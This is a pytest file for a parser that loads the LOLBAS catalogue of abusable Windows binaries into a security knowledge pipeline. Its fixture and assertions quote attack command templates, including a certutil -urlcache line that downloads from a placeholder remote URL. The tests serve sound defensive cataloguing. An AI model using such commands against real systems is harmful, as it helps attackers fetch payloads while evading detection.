"""The LOLBAS parser on the real snapshot, plus the format's quirks."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from pipeline.sources.parsers import lolbas_yaml
from pipeline.sources.parsing import parse_source
from pipeline.sources.records import ParseOutcome, Record, SourceFile
from pipeline.sources.registry import default_registry
from secrag.errors import ParseError
from tests.plugins.upstream import SNAPSHOT

UPSTREAM = SNAPSHOT


@pytest.fixture(scope="module")
def outcome() -> ParseOutcome:
    return parse_source(default_registry()["lolbas"], UPSTREAM / "lolbas")


@pytest.fixture(scope="module")
def by_id(outcome: ParseOutcome) -> dict[str, Record]:
    return {r.doc_id: r for r in outcome.records}


def _file(text: str, rel: str = "yml/OSBinaries/Test.yml") -> SourceFile:
    return SourceFile(
        source="lolbas",
        root=Path("/nonexistent"),
        rel=rel,
        data=text.encode(),
        web_url="https://example.test/blob/master/{path}",
    )


ENTRY = """\
Name: Test.exe
Description: A test binary
Author: Someone
Created: 2024-01-02
Commands:
  - Command: test.exe /download {REMOTEURL}
    Description: Downloads a file. See T9999 in prose, which is not a mapping.
    Usecase: Download
    Category: Download
    Privileges: User
    MitreID: T1105
    OperatingSystem: Windows 10
Full_Path:
  - Path: C:\\Windows\\System32\\test.exe
"""


# --- whole snapshot -------------------------------------------------------------------------


def test_counts(outcome: ParseOutcome) -> None:
    # 243 entries upstream; the 3 HonorableMentions are excluded by the registry.
    assert outcome.files_seen == 240
    assert len(outcome.records) == 240
    assert len(outcome.skipped) == 0
    assert outcome.with_techniques == 240  # every command carries a MitreID


def test_all_four_catalogue_folders_and_no_honorable_mentions(outcome: ParseOutcome) -> None:
    kinds = {r.metadata["kind"] for r in outcome.records}
    assert kinds == {"OSBinaries", "OSLibraries", "OSScripts", "OtherMSBinaries"}
    assert not any("HonorableMentions" in r.path for r in outcome.records)


def test_ids_are_file_paths(outcome: ParseOutcome) -> None:
    assert all(r.upstream_id == r.path and r.path.startswith("yml/") for r in outcome.records)


def test_certutil(by_id: dict[str, Record]) -> None:
    r = by_id["lolbas:yml/OSBinaries/Certutil.yml"]
    assert r.title == "Certutil.exe"
    assert r.url == "https://github.com/LOLBAS-Project/LOLBAS/blob/master/yml/OSBinaries/Certutil.yml"
    assert r.techniques == ("T1027.013", "T1105", "T1140", "T1564.004")
    assert r.platforms == ("windows",)
    assert "certutil.exe -urlcache -f {REMOTEURL:.exe} {PATH:.exe}" in r.body
    assert "Use case: Download file from Internet" in r.body
    assert "IOC: Useragent CertUtil URL Agent" in r.body
    assert r.metadata["categories"] == ["ADS", "Decode", "Download", "Encode"]
    assert r.metadata["created"] == "2018-05-25"


def test_library_and_script(by_id: dict[str, Record]) -> None:
    lib = by_id["lolbas:yml/OSLibraries/Advpack.yml"]
    assert lib.title == "Advpack.dll"
    assert lib.metadata["kind"] == "OSLibraries"
    assert "T1218.011" in lib.techniques
    script = by_id["lolbas:yml/OSScripts/Pubprn.yml"]
    assert script.title == "Pubprn.vbs"
    assert "Code samples:" in script.body


def test_metadata_is_json_serialisable(outcome: ParseOutcome) -> None:
    json.dumps([r.metadata for r in outcome.records])


def test_version_is_pinned_in_urls() -> None:
    spec = default_registry()["lolbas"]
    again = parse_source(spec, UPSTREAM / "lolbas", version="3403b338875b8a99a0cd7ba4ced5086e8d310bf7")
    assert all("/blob/3403b338875b8a99a0cd7ba4ced5086e8d310bf7/yml/" in r.url for r in again.records)


def test_reparse_gives_same_ids_and_hashes(outcome: ParseOutcome) -> None:
    again = parse_source(default_registry()["lolbas"], UPSTREAM / "lolbas")
    assert {r.doc_id: r.content_hash for r in again.records} == {r.doc_id: r.content_hash for r in outcome.records}


def test_empty_checkout_fails_the_source(tmp_path: Path) -> None:
    with pytest.raises(ParseError):
        parse_source(default_registry()["lolbas"], tmp_path)


# --- quirks ---------------------------------------------------------------------------------


def test_techniques_only_from_command_mitre_ids() -> None:
    (record,) = lolbas_yaml.parse(_file(ENTRY))
    assert record.techniques == ("T1105",)
    assert record.upstream_id == "yml/OSBinaries/Test.yml"
    assert record.metadata["created"] == "2024-01-02"  # a YAML date, stored as ISO text


@pytest.mark.parametrize(
    "text, reason",
    [
        ("- just a list\n", "mapping"),
        ("Name: X.exe\nCommands: []\n", "Commands"),
        ("Description: no name\nCommands:\n  - Command: x\n", "Name"),
        ("Name: [unclosed\n", "invalid YAML"),
        ("Name: caf\xe9.exe\n", "UTF-8"),
    ],
)
def test_bad_files_raise(text: str, reason: str) -> None:
    file = _file(text)
    if reason == "UTF-8":  # Latin-1 bytes, as a mis-saved upstream file would hold
        file = SourceFile(source=file.source, root=file.root, rel=file.rel, data=text.encode("latin-1"))
    with pytest.raises(ParseError, match=reason):
        list(lolbas_yaml.parse(file))


def test_names_and_paths_are_artefacts(by_id: dict[str, Record]) -> None:
    record = by_id["lolbas:yml/OSBinaries/Certutil.yml"]
    found = {(a.kind, a.field, a.key) for a in record.artefacts}
    assert found == {
        ("file_name", "Name", "certutil.exe"),
        ("path", "Full_Path.Path", "%system32%\\certutil.exe"),
        ("path", "Full_Path.Path", "%syswow64%\\certutil.exe"),
    }  # the paths' file name is the name: not twice
    assert all(a.folded for a in record.artefacts)
